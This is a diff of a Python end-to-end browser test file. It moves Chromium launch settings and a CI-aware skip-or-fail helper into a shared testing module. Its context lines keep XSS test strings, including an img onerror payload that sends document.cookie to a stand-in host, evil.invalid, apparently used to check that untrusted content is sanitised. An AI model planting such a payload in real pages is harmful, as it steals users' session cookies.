@@ -13,11 +13,10 @@ from pathlib import Path
 import httpx
 import pytest
 
+from aimem_testing.browser import chromium, require
+
 pytestmark = [pytest.mark.e2e, pytest.mark.timeout(420)]
 
-CHROMIUM = os.environ.get("AIMEM_TEST_CHROMIUM", "/usr/bin/chromium")  # Debian's; never a downloaded browser
-ARGS = ["--no-sandbox", "--disable-gpu", "--disable-background-networking", "--disable-component-update",
-        "--no-first-run"]
 REPO = Path(__file__).resolve().parents[4]
 AXE = Path(os.environ.get("AIMEM_AXE_JS", REPO / ".cache/npm/node_modules/axe-core/axe.min.js"))
 
@@ -29,32 +28,11 @@ XSS_PAGE = ("# Untrusted\n<script>alert('page')</script>\n[click me](javascript:
 XSS_PROMPT = "<script>alert('hook')</script><img src=x onerror=\"fetch('http://evil.invalid/'+document.cookie)\">"
 
 
-def require(ok: bool, reason: str) -> None:
-    """A missing browser part fails the test in CI (``CI=true``, set by ``.ci/run``) and skips it,
-    with ``reason``, on a developer machine."""
-    if ok:
-        return
-    if os.environ.get("CI", "").lower() in ("1", "true", "yes"):
-        pytest.fail(f"{reason} (CI=true: browser tests must run)", pytrace=False)
-    pytest.skip(reason)
-
-
 @pytest.fixture(scope="module")
 def browser():
-    try:
-        from playwright import sync_api
-    except ImportError:
-        sync_api = None
-    require(sync_api is not None, "playwright is not installed: pip install -r requirements-dev.txt")
-    require(Path(CHROMIUM).is_file() and os.access(CHROMIUM, os.X_OK),
-            f"Debian's chromium is missing at {CHROMIUM}: apt-get install -y chromium (.ci/run does)")
     require(AXE.exists(), f"axe-core is missing at {AXE}: npm install --prefix .cache/npm axe-core (.ci/run does)")
-    with sync_api.sync_playwright() as p:
-        b = p.chromium.launch(executable_path=CHROMIUM, args=ARGS)
-        try:
-            yield b
-        finally:
-            b.close()
+    with chromium() as b:
+        yield b
 
 
 @pytest.fixture
